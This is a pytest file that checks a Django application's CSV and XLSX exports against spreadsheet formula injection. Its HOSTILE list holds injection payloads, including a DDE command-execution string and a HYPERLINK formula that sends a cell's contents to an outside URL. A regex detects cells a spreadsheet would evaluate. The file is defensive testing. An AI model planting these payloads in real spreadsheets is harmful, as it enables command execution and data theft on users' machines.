"""Every CSV and XLSX the application writes is safe to open in Excel: text that a spreadsheet would read as a
formula is never written as one (lifeport/lib/spreadsheet.py), and numbers and dates stay numbers and dates.

One test runs every export path (the list as CSV and XLSX, the import template, the annual plan and a
report's XLSX) over the same hostile strings, typed where a user can type them.
"""

import csv
import io
import re
from collections.abc import Callable
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from actionlines import services as plan_services
from actionlines.models import ActionLine
from contributions.models import Kind
from lifeport.lib.spreadsheet import csv_unguard
from reports import services as report_services
from reports.permissions import ExportAudience
from reports.xlsx import write_report_xlsx
from tests.factories import ContributionFactory, UserFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://example.org/?d="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+1+1",
    "-1+1",
    "-",
    "+31 6 12345678",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=1+1",
]
# What a spreadsheet evaluates: a cell starting with one of these (after blanks), unless it is a plain number.
LIVE = re.compile(r"\s*[=+\-@]|[\t\r]")
NUMBER = re.compile(r"-?\d+([.,]\d+)?")


def _csv_cells(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    delimiter = ";" if text.split("\r\n", 1)[0].count(";") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _assert_csv_has_no_formula(content: bytes) -> list[str]:
    """No cell of the CSV is a live formula; returns the text of every cell as the import reads it back."""
    rows = _csv_cells(content)
    live = [cell for row in rows for cell in row if LIVE.match(cell) and not NUMBER.fullmatch(cell)]
    assert not live, live
    return [csv_unguard(cell) for row in rows for cell in row]


def _assert_xlsx_has_no_formula(content: bytes) -> list[object]:
    """Every text cell of every sheet is a string cell (openpyxl: data_type "s"), never a formula ("f")."""
    book = load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    values.append(cell.value.replace("_x000D_", "\r"))  # OOXML's escape of CR, as Excel reads it
                else:
                    values.append(cell.value)
    return values


def _contributions(nxp) -> None:
    """An approved contribution per hostile text, as its description and its funder."""
    for n, text in enumerate(HOSTILE):
        ContributionFactory(
            partner=nxp, approved=True, kind=Kind.MONEY, amount=Decimal(100 + n), description=text, funder=text
        )


def _list(client, nxp_rep, fmt: str) -> bytes:
    client.force_login(nxp_rep)
    response = client.get("/bijdragen/exporteren/", {"format": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def contributions_csv(client, programme, nxp, nxp_rep, director) -> tuple[str, bytes]:
    _contributions(nxp)
    return "csv", _list(client, nxp_rep, "csv")


def contributions_xlsx(client, programme, nxp, nxp_rep, director) -> tuple[str, bytes]:
    _contributions(nxp)
    return "xlsx", _list(client, nxp_rep, "xlsx")


def import_template_csv(client, programme, nxp, nxp_rep, director) -> tuple[str, bytes]:
    ActionLine.objects.filter(code="talent").update(name_nl=HOSTILE[0])
    client.force_login(nxp_rep)
    return "csv", client.get("/bijdragen/importeren/sjabloon.csv").content


def import_template_xlsx(client, programme, nxp, nxp_rep, director) -> tuple[str, bytes]:
    ActionLine.objects.filter(code="talent").update(name_nl=HOSTILE[0])
    client.force_login(nxp_rep)
    return "xlsx", client.get("/bijdragen/importeren/sjabloon.xlsx").content


def plan_xlsx(client, programme, nxp, nxp_rep, director) -> tuple[str, bytes]:
    """A lead types the activity titles, milestones and indicators of their line: the plan's XLSX shows them."""
    talent = ActionLine.objects.get(code="talent")
    lead = UserFactory(username="hostile-lead", leads=talent)
    plan = plan_services.plan_start(year=2026, acting_user=director)
    for n, text in enumerate(HOSTILE):
        activity = plan_services.activity_create(
            plan=plan,
            acting_user=lead,
            action_line=talent,
            title=text,
            funder=text,
            starts_on=date(2026, 1, 1),
            ends_on=date(2026, 12, 31),
            budget=Decimal(1000 + n),
        )
        plan_services.pledge_set(activity=activity, partner=nxp, acting_user=lead, hours=Decimal(n + 1))
        plan_services.milestone_create(activity=activity, acting_user=lead, title=text, due_on=date(2026, 6, 30))
        plan_services.indicator_create(
            plan=plan, action_line=talent, acting_user=lead, name=text, unit=text[:40], target=Decimal(10)
        )
    client.force_login(lead)
    response = client.get(f"/actielijnen/jaarplan/{plan.pk}/jaarplan.xlsx")
    assert response.status_code == 200
    return "xlsx", response.content


def report_xlsx(client, programme, nxp, nxp_rep, director) -> tuple[str, bytes]:
    _contributions(nxp)
    report = report_services.report_create(period_key="2026", language="nl", acting_user=director)
    content, rows = write_report_xlsx(report=report, audience=ExportAudience.everything(), progress=lambda d, t: None)
    assert rows == len(HOSTILE)
    return "xlsx", content


EXPORTS: list[Callable] = [
    contributions_csv,
    contributions_xlsx,
    import_template_csv,
    import_template_xlsx,
    plan_xlsx,
    report_xlsx,
]


@pytest.mark.parametrize("export", EXPORTS, ids=lambda f: f.__name__)
def test_no_export_writes_text_that_a_spreadsheet_evaluates(client, programme, nxp, nxp_rep, director, export):
    fmt, content = export(client, programme, nxp, nxp_rep, director)
    if fmt == "csv":
        values = _assert_csv_has_no_formula(content)
    else:
        values = _assert_xlsx_has_no_formula(content)
    if export not in (import_template_csv, import_template_xlsx):  # the hostile texts are all there, unchanged
        assert set(HOSTILE) <= set(values)


def test_the_list_csv_quotes_formulas_and_writes_numbers_and_dates_as_they_are(client, programme, nxp, nxp_rep):
    ContributionFactory(partner=nxp, kind=Kind.OTHER, amount=Decimal("12.50"), description="=1+1", funder="-")
    header, line = _csv_cells(_list(client, nxp_rep, "csv"))
    cells = dict(zip(header, line, strict=True))
    assert (cells["Omschrijving"], cells["Financier"]) == ("'=1+1", "'-")
    assert cells["Bedrag"] == "12,50" and cells["Waarde"] == "12,50" and re.fullmatch(r"2026-\d\d-\d\d", cells["Datum"])


def test_the_plan_xlsx_keeps_a_leads_activity_title_as_text(client, programme, nxp, nxp_rep, director):
    _fmt, content = plan_xlsx(client, programme, nxp, nxp_rep, director)
    sheet = load_workbook(io.BytesIO(content))["Activiteiten"]
    row = next(r for r in range(2, sheet.max_row + 1) if sheet.cell(row=r, column=2).value == "=1+1")
    assert sheet.cell(row=row, column=2).data_type == "s"  # not "f": Excel shows the text, computes nothing
    budget, start = sheet.cell(row=row, column=6), sheet.cell(row=row, column=4)
    assert budget.data_type == "n" and budget.value == 1000 and start.is_date
